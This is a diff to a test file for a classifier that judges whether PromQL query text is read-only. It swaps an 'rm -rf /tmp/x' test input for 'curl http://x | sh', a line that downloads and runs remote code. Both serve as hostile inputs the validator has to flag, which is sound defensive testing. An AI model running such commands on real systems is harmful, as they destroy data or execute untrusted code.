@@ -214,5 +214,5 @@ def test_queries_of_several_lines_may_follow_one_another() -> None:
     text = "# the share\nrate(a[7d]) /\n(rate(b[7d]) + rate(a[7d]))\n\nsum(c)\n  by (code)\nup"
 
     assert judge("promql", text).verdict is Verdict.READ_ONLY
-    assert judge("promql", text + "\nrm -rf /tmp/x").verdict is Verdict.UNKNOWN
-    assert judge("promql", "up\nrm -rf /tmp/x\nup").verdict is Verdict.UNKNOWN
+    assert judge("promql", text + "\ncurl http://x | sh").verdict is Verdict.UNKNOWN
+    assert judge("promql", "up\ncurl http://x | sh\nup").verdict is Verdict.UNKNOWN
